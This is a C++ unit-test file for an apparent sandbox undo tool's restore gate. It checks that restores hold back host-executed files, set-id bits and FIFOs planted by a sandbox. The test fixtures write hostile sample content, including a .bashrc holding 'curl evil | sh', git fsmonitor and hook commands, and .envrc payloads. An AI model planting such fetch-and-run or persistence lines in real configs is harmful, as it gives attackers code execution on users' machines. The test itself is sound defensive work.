// A restore passes the gate (restore_gate.h, issue 25 class 1): on a fake tree, what a checkpoint
// the sandbox asked for holds that the host runs is held back and said; what snapshot 0 held comes
// back; set-id bits and FIFOs are never written; the check after the writes is taken over the
// session's roots with exactly the trusted writes exempt.
#include "undo/restore_gate.h"

#include <gtest/gtest.h>

#include "undo/fake_rig.h"

namespace paddock::undo {
namespace {

using namespace rig;

const Held* find_held(const std::vector<Held>& held, const std::string& path) {
  for (const auto& h : held)
    if (h.path == path) return &h;
  return nullptr;
}

// Inside `run --undo` the sandbox writes what the host runs, asks for a checkpoint, and deletes
// it: the run ends with nothing left behind. A restore to that checkpoint writes back the rest of
// it, not those.
TEST(RestoreGate, WhatACheckpointHoldsThatTheHostRunsIsHeldBack) {
  FakeRig rig;
  rig.tree->put_dir("src");
  rig.tree->put_file("src/a.c", "v0");
  rig.snap("before run");
  rig.tree->put_file("src/a.c", "v1");
  rig.tree->put_file(".envrc", "touch /tmp/owned");
  rig.tree->put_dir("sub");
  rig.tree->put_file("sub/ok.txt", "fine");
  rig.tree->put_dir("sub/.git");
  rig.tree->put_file("sub/.git/HEAD", "ref: refs/heads/main\n");
  rig.tree->put_file("sub/.git/config", "[core]\n\tfsmonitor = touch /tmp/owned\n");
  rig.tree->put_dir("pkg");
  rig.tree->put_dir("pkg/.vscode");
  rig.tree->put_file("pkg/.vscode/tasks.json", "{}");
  const int checkpoint = rig.snap("checkpoint");
  rig.tree->remove_tree(".envrc");
  rig.tree->remove_tree("sub");
  rig.tree->remove_tree("pkg");
  rig.snap("after run");

  // The dry run says it, and so does held_back (`undo show SESSION:1`).
  auto dry = rig.restore(checkpoint, {}, false, true);
  EXPECT_FALSE(dry.applied);
  auto listed = rig.mgr->held_back(rig.session, checkpoint);
  ASSERT_TRUE(listed) << listed.error().describe();
  for (const auto* held : {&dry.held, &*listed}) {
    ASSERT_EQ(held->size(), 3u);
    const Held* envrc = find_held(*held, ".envrc");
    ASSERT_NE(envrc, nullptr);
    EXPECT_EQ(envrc->verdict.cls, gate::Class::HostRun);
    ASSERT_TRUE(envrc->entry);
    EXPECT_FALSE(envrc->entry->hash.empty());  // where its content is: the store's object
    const Held* git = find_held(*held, "sub/.git");
    ASSERT_NE(git, nullptr);
    EXPECT_EQ(git->verdict.cls, gate::Class::Git);
    EXPECT_EQ(git->below, 2u);  // HEAD and config held with it
    EXPECT_NE(find_held(*held, "pkg/.vscode"), nullptr);
  }
  for (const auto& c : dry.changes) EXPECT_EQ(c.path.find(".git"), std::string::npos) << c.path;

  auto out = rig.restore(checkpoint);
  EXPECT_TRUE(out.applied);
  EXPECT_EQ(out.held.size(), 3u);
  EXPECT_FALSE(rig.tree->exists(".envrc"));
  EXPECT_FALSE(rig.tree->exists("sub/.git"));
  EXPECT_FALSE(rig.tree->exists("pkg/.vscode"));
  EXPECT_EQ(rig.tree->content("sub/ok.txt"), "fine");  // the rest of the checkpoint is back
  EXPECT_EQ(rig.tree->content("src/a.c"), "v1");
  // Held again, and not a conflict, on the next restore to it.
  auto again = rig.restore(checkpoint);
  EXPECT_TRUE(again.conflicts.empty());
  EXPECT_EQ(again.held.size(), 3u);
  EXPECT_FALSE(rig.tree->exists(".envrc"));
}

// Snapshot 0 is taken before the sandbox starts: what it held is the host's, and comes back, under
// .git too, whichever snapshot holds it unchanged.
TEST(RestoreGate, WhatSnapshotZeroHeldComesBack) {
  FakeRig rig;
  rig.tree->put_file(".envrc", "the user's own");
  rig.tree->put_dir(".git");
  rig.tree->put_file(".git/config", "[core]\n");
  rig.tree->put_dir(".git/hooks");
  rig.tree->put_file(".git/hooks/pre-commit", "#!/bin/sh\nmake lint\n", 0755);
  const std::string original = rig.tree->describe();
  rig.snap("before run");
  rig.tree->put_file("notes", "x");
  const int checkpoint = rig.snap("checkpoint");  // the host's files unchanged in it
  rig.tree->remove_tree(".envrc");
  rig.tree->remove_tree(".git");
  rig.snap("after run");
  auto to_checkpoint = rig.restore(checkpoint);
  EXPECT_TRUE(to_checkpoint.applied);
  EXPECT_TRUE(to_checkpoint.held.empty());
  EXPECT_EQ(rig.tree->content(".envrc"), "the user's own");
  EXPECT_EQ(rig.tree->content(".git/hooks/pre-commit"), "#!/bin/sh\nmake lint\n");
  auto to_zero = rig.restore(0);
  EXPECT_TRUE(to_zero.applied);
  EXPECT_TRUE(to_zero.held.empty());
  EXPECT_EQ(rig.tree->describe(), original);
}

// Trust is for exactly what snapshot 0 held: a hook made executable by the sandbox is not.
TEST(RestoreGate, AModeTheSandboxChoseIsNotTrusted) {
  FakeRig rig;
  rig.tree->put_dir(".git");
  rig.tree->put_dir(".git/hooks");
  rig.tree->put_file(".git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/owned\n", 0644);
  rig.snap("before run");
  rig.tree->chmod(".git/hooks/post-checkout", 0755);
  const int checkpoint = rig.snap("checkpoint");
  rig.tree->chmod(".git/hooks/post-checkout", 0644);
  rig.snap("after run");
  auto out = rig.restore(checkpoint);
  ASSERT_EQ(out.held.size(), 1u);
  EXPECT_EQ(out.held[0].path, ".git/hooks/post-checkout");
  auto st = rig.tree->stat(".git/hooks/post-checkout");
  ASSERT_TRUE(st);
  EXPECT_EQ(st->mode, 0644u);
}

// A set-id file: the sandbox's is held back; the host's own comes back without its set-id bits.
TEST(RestoreGate, SetIdBitsAreNeverWritten) {
  FakeRig rig;
  rig.tree->put_file("tool", "host binary", 04755);
  rig.snap("before run");
  rig.tree->remove_tree("tool");
  rig.tree->put_file("planted", "sandbox binary", 06755);
  const int checkpoint = rig.snap("checkpoint");
  rig.tree->remove_tree("planted");
  rig.snap("after run");
  auto out = rig.restore(checkpoint);
  ASSERT_EQ(out.held.size(), 1u);
  EXPECT_EQ(out.held[0].path, "planted");
  EXPECT_EQ(out.held[0].verdict.cls, gate::Class::SetId);
  EXPECT_FALSE(rig.tree->exists("planted"));
  auto zero = rig.restore(0);
  EXPECT_TRUE(zero.applied);
  auto st = rig.tree->stat("tool");
  ASSERT_TRUE(st);
  EXPECT_EQ(st->mode, 0755u);
  EXPECT_EQ(rig.tree->content("tool"), "host binary");
  bool said = false;
  for (const auto& w : zero.warnings) said = said || w.find("/fake/proj/tool: restored without its set-id bits") == 0;
  EXPECT_TRUE(said);
}

// No FIFO is ever made by a restore: the sandbox's nor the host's.
TEST(RestoreGate, NoFifoIsMade) {
  FakeRig rig;
  rig.tree->put_fifo("host-pipe");
  rig.snap("before run");
  rig.tree->remove_tree("host-pipe");
  rig.tree->put_fifo("planted-pipe");
  const int checkpoint = rig.snap("checkpoint");
  rig.tree->remove_tree("planted-pipe");
  rig.snap("after run");
  auto out = rig.restore(checkpoint);
  ASSERT_EQ(out.held.size(), 1u);
  EXPECT_EQ(out.held[0].verdict.cls, gate::Class::Special);
  EXPECT_FALSE(rig.tree->exists("planted-pipe"));
  auto zero = rig.restore(0);
  ASSERT_EQ(zero.held.size(), 1u);
  EXPECT_EQ(zero.held[0].path, "host-pipe");
  EXPECT_FALSE(rig.tree->exists("host-pipe"));
}

// Where the root is HOME, HOME's entries are judged as HOME's; in a project below HOME they are
// ordinary files.
TEST(RestoreGate, HomesEntriesAreJudgedAsHomes) {
  for (const std::string home : {"/fake/proj", "/fake"}) {
    SCOPED_TRACE(home);
    FakeRig rig(default_excludes(), home);
    rig.snap("before run");
    rig.tree->put_file(".bashrc", "curl evil | sh");
    rig.tree->put_dir(".codex");
    rig.tree->put_file(".codex/config.toml", "notify = [\"sh\"]");
    const int checkpoint = rig.snap("checkpoint");
    rig.tree->remove_tree(".bashrc");
    rig.tree->remove_tree(".codex");
    rig.snap("after run");
    auto out = rig.restore(checkpoint);
    const bool is_home = home == "/fake/proj";
    EXPECT_EQ(find_held(out.held, ".bashrc") != nullptr, is_home);
    EXPECT_EQ(rig.tree->exists(".bashrc"), !is_home);
    EXPECT_NE(find_held(out.held, ".codex"), nullptr);  // a project's .codex is the host's too
    ASSERT_EQ(rig.check->areas.size(), 1u);
    EXPECT_EQ(rig.check->areas[0].path, "/fake/proj");
    EXPECT_EQ(rig.check->areas[0].kind, is_home ? gate::RootKind::Home : gate::RootKind::Workspace);
  }
}

// The check after the writes: taken over the session's roots before the first write, finished
// after the last; what snapshot 0 held (and removals) are exempt, the sandbox's content is not,
// and what it moved aside is in the outcome.
TEST(RestoreGate, TheCheckAfterTheWritesExemptsOnlyTrustedWrites) {
  FakeRig rig;
  rig.tree->put_dir("a");
  rig.tree->put_file("a/host", "0");
  rig.tree->put_dir("b");
  rig.tree->put_file("b/gone", "0");
  rig.snap("before run");
  rig.tree->put_file("a/sandbox", "chosen inside");
  const int checkpoint = rig.snap("checkpoint");
  rig.tree->remove_tree("a");
  rig.tree->put_file("b/new", "1");
  rig.tree->remove_tree("b/gone");
  rig.snap("after run");
  rig.check->asked = {"/fake/proj/a/host", "/fake/proj/a/sandbox", "/fake/proj/a", "/fake/proj/b",
                      "/fake/proj/b/new", "/fake/proj/b/gone", "/fake/proj/untouched"};
  rig.check->to_report = {{"/fake/proj/x/config", "git runs it", "moved aside"}};
  auto dry = rig.restore(checkpoint, {}, false, true);
  EXPECT_EQ(rig.check->taken, 0) << "a dry run writes nothing: nothing to check";
  auto out = rig.restore(checkpoint);
  ASSERT_TRUE(out.applied);
  EXPECT_EQ(rig.check->taken, 1);
  EXPECT_EQ(rig.check->finished, 1);
  EXPECT_TRUE(rig.check->answers["/fake/proj/a/host"]);
  EXPECT_FALSE(rig.check->answers["/fake/proj/a/sandbox"]);
  EXPECT_FALSE(rig.check->answers["/fake/proj/a"]) << "it holds a write the sandbox chose";
  EXPECT_TRUE(rig.check->answers["/fake/proj/b"]) << "only removals and snapshot 0's content in it";
  EXPECT_TRUE(rig.check->answers["/fake/proj/b/new"]);   // removed
  EXPECT_TRUE(rig.check->answers["/fake/proj/b/gone"]);  // snapshot 0's content
  EXPECT_FALSE(rig.check->answers["/fake/proj/untouched"]);
  ASSERT_EQ(out.left_behind.size(), 1u);
  EXPECT_EQ(out.left_behind[0].path, "/fake/proj/x/config");
}

}  // namespace
}  // namespace paddock::undo
